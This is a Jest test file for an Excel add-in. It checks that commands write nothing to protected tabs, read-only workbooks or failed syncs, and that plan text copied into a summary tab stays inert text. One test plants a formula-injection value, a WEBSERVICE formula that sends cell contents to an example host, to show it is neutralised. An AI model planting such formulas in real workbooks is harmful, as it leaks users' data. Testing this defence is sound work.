/**
 * When the add-in cannot write: protected tabs, a read-only workbook, a sync that fails, a tab
 * protected between the read and the write. Every command leaves the workbook exactly as it was
 * (the whole memory state compared) and says which tab and what to do. Also: plan text copied
 * into the summary tab stays text (never a live formula).
 */
import {
  applyTextChangesCommand,
  checkPlanCommand,
  removeFormattingCommand,
  summariseCommand,
  SUMMARY_SHEET,
} from "../../src/app/commands";
import { planApplySuggestions } from "../../src/core";
import { STORAGE_SHEET } from "../../src/core/storage-layout";
import { snapshotState, toGrid, userEdit } from "../../src/memory-excel";
import { fixtureGrid } from "../helpers/fixture-grid";
import { memoryHost } from "../excel/memory-host";
import { hookedHost, officeError, stateDiff } from "./helpers";

const TODAY = "2022-07-15";
const PROTECTED = "'Children's Social Care' is protected: unprotect it (Review > Unprotect Sheet) and run";

describe("a protected tab", () => {
  test("Check plan: blocked, the message names the tab and what to do, nothing written", async () => {
    const { workbook, host } = memoryHost(fixtureGrid());
    workbook.setProtected("Children's Social Care", true);
    const before = snapshotState(workbook);
    const outcome = await checkPlanCommand(host, { today: TODAY });
    expect(outcome.message).toBe(`${PROTECTED} Check plan again. Nothing was changed.`);
    expect(stateDiff(snapshotState(workbook), before)).toEqual([]);
  });

  test("applying suggestions to a protected tab: refused before anything is written", async () => {
    const { workbook, host } = memoryHost(fixtureGrid());
    const checked = await checkPlanCommand(host, { today: TODAY });
    const writes = planApplySuggestions(checked.result, "all");
    expect(writes.some((w) => w.sheet === "Children's Social Care")).toBe(true);
    workbook.setProtected("Children's Social Care", true);
    const before = snapshotState(workbook);
    await expect(applyTextChangesCommand(host, writes)).rejects.toThrow(
      `${PROTECTED} the change again. Nothing was changed.`,
    );
    expect(stateDiff(snapshotState(workbook), before)).toEqual([]);
  });

  test("Summarise when its own tab is protected: refused, naming the tab, nothing written", async () => {
    const { workbook, host } = memoryHost(fixtureGrid());
    await summariseCommand(host, { today: "2022-07-01" });
    workbook.setProtected(SUMMARY_SHEET, true);
    const before = snapshotState(workbook);
    await expect(summariseCommand(host, { today: TODAY })).rejects.toThrow(
      `'${SUMMARY_SHEET}' is protected: unprotect it (Review > Unprotect Sheet) and run Summarise progress again. Nothing was changed.`,
    );
    expect(stateDiff(snapshotState(workbook), before)).toEqual([]);
  });

  test("Remove formatting after a tab was protected since the last check: refused, naming it, nothing written", async () => {
    const { workbook, host } = memoryHost(fixtureGrid());
    await checkPlanCommand(host, { today: TODAY });
    workbook.setProtected("Children's Social Care", true);
    const before = snapshotState(workbook);
    await expect(removeFormattingCommand(host)).rejects.toThrow(
      `${PROTECTED} Remove formatting again. Nothing was changed.`,
    );
    expect(stateDiff(snapshotState(workbook), before)).toEqual([]);
  });
});

describe("a read-only workbook: every command says so and writes nothing", () => {
  const commands: [string, (host: ReturnType<typeof memoryHost>["host"]) => Promise<unknown>][] = [
    [
      "Check plan",
      async (host) => {
        const outcome = await checkPlanCommand(host, { today: TODAY });
        if (outcome.message) throw new Error(outcome.message);
      },
    ],
    ["Summarise progress", (host) => summariseCommand(host, { today: TODAY })],
    [
      "the change",
      async (host) =>
        applyTextChangesCommand(
          host,
          planApplySuggestions((await checkPlanCommand(host, { today: TODAY })).result, "all"),
        ),
    ],
    ["Remove formatting", (host) => removeFormattingCommand(host)],
  ];
  test.each(commands)("%s", async (command, run) => {
    const { workbook, host } = memoryHost(fixtureGrid());
    await checkPlanCommand(host, { today: "2022-07-01" });
    workbook.readOnly = true;
    const before = snapshotState(workbook);
    await expect(run(host)).rejects.toThrow(
      `This workbook is open read-only: choose Edit Workbook (or save a copy with File > Save As) and run ${command} again. Nothing was changed.`,
    );
    expect(stateDiff(snapshotState(workbook), before)).toEqual([]);
  });
});

describe("a failure half-way", () => {
  test("the write's sync fails (connection lost): a readable message saying what to do, the workbook as it was", async () => {
    for (const [command, syncToFail] of [
      // A first read lists the tabs (sync 1) then reads them (sync 2); the write is sync 3.
      ["check", 3],
      ["summarise", 3],
      ["suggestions", 4],
    ] as const) {
      const { workbook, host } = hookedHost(fixtureGrid(), (n) => {
        if (n === syncToFail) throw officeError("GeneralException", "The connection to Excel was lost.");
      });
      const before = snapshotState(workbook);
      const run =
        command === "check"
          ? checkPlanCommand(host, { today: TODAY })
          : command === "summarise"
            ? summariseCommand(host, { today: TODAY })
            : (async () => {
                const checked = await checkPlanCommand(memoryHost(fixtureGrid()).host, { today: TODAY });
                await host.read();
                return applyTextChangesCommand(host, planApplySuggestions(checked.result, "all"));
              })();
      await expect(run).rejects.toThrow(
        /did not finish\. Excel reported a problem\. \(GeneralException: The connection to Excel was lost\.\) Try again; if it keeps happening, save the workbook and reopen it\./,
      );
      expect({ command, diff: stateDiff(snapshotState(workbook), before) }).toEqual({ command, diff: [] });
    }
  });

  test("the read fails: nothing is written and the message says to try again", async () => {
    // Both read attempts fail: a failed read is retried once without merged areas (Excel refuses more
    // than 512 of them with an undocumented code, so any failure is retried that way).
    const { workbook, host } = hookedHost(fixtureGrid(), (n) => {
      if (n <= 2) throw officeError("InvalidOperation", "Excel is busy.");
    });
    const before = snapshotState(workbook);
    await expect(checkPlanCommand(host, { today: TODAY })).rejects.toThrow(
      /^Reading the workbook did not finish\. Excel could not do that right now\..*Try again/,
    );
    expect(snapshotState(workbook)).toBe(before);
    // The next attempt works.
    expect((await checkPlanCommand(host, { today: TODAY })).formatting).toBe("applied");
  });

  test("a tab protected between the read and the write (a colleague, or another add-in): the user is told which tab, and what to do", async () => {
    const { workbook, host } = hookedHost(fixtureGrid(), (n) => {
      if (n === 3) workbook.setProtected("Children's Social Care", true);
    });
    const before = toGrid(workbook)
      .sheets.filter((s) => s.name !== STORAGE_SHEET)
      .map((s) => ({ name: s.name, values: s.values, fills: s.fills }));
    const failure = await checkPlanCommand(host, { today: TODAY }).then(
      () => null,
      (e: Error) => e.message,
    );
    expect(failure).toMatch(
      /Formatting the plan did not finish\. Excel refused the change: a tab may be protected or the workbook open read-only\..*Try again/,
    );
    // Office.js has no transactions: formatting queued before the refused write may stay, but no cell text changes.
    expect(
      toGrid(workbook)
        .sheets.filter((s) => s.name !== STORAGE_SHEET)
        .map((s) => ({ name: s.name, values: s.values, fills: s.fills })),
    ).toEqual(before);
    // Running it again (the read now sees the protection) names the tab.
    const again = await checkPlanCommand(host, { today: TODAY });
    expect(again.message).toBe(`${PROTECTED} Check plan again. Nothing was changed.`);
  });
});

describe("plan text copied into the summary tab stays text", () => {
  test("an action or owner that looks like a formula or a boolean is written as text, exactly", async () => {
    const { workbook, host } = memoryHost(fixtureGrid());
    const overdue = (await checkPlanCommand(host, { today: TODAY })).result.sheets[0].actions.find(
      (a) => a.status === "overdue",
    );
    if (!overdue) throw new Error("fixture has an overdue action on its first tab");
    const { action: col, owner } = overdue.columns;
    const letter = (c: number | undefined): string => String.fromCharCode(64 + (c ?? 1));
    userEdit(workbook, overdue.sheet, `${letter(col)}${overdue.row}`, [
      ['=WEBSERVICE("https://example.org/?"&A1)'],
    ]);
    userEdit(workbook, overdue.sheet, `${letter(owner)}${overdue.row}`, [["TRUE"]]);
    const summary = await summariseCommand(host, { today: TODAY });
    // The overdue table names the action as "tab, row N: action" (linked) and gives the owner alone.
    const row = summary.sheet.rows.findIndex(
      (r) =>
        r.includes("TRUE") &&
        r.some((v) => typeof v === "string" && v.endsWith(': =WEBSERVICE("https://example.org/?"&A1)')),
    );
    expect(row).toBeGreaterThan(0);
    const written = toGrid(workbook).sheets.find((s) => s.name === SUMMARY_SHEET);
    expect(written?.values[row]).toEqual(
      summary.sheet.rows[row]
        ?.map((v) => v ?? null)
        .concat(
          Array((written?.values[row]?.length ?? 0) - (summary.sheet.rows[row]?.length ?? 0)).fill(null),
        ),
    );
  });
});

test("summaryMatrix keeps formula-like and boolean-like text as text (leading apostrophe, hidden by Excel)", () => {
  const { summaryMatrix } = jest.requireActual<typeof import("../../src/excel/apply-summary")>(
    "../../src/excel/apply-summary",
  );
  expect(
    summaryMatrix([
      ["=SUM(A1)", "+44 20", "-3 days", "@me", "'quoted", "TRUE", "false", "Green", 3, true, null],
    ]).matrix,
  ).toEqual([
    ["'=SUM(A1)", "'+44 20", "'-3 days", "'@me", "''quoted", "'TRUE", "'false", "Green", 3, true, ""],
  ]);
});
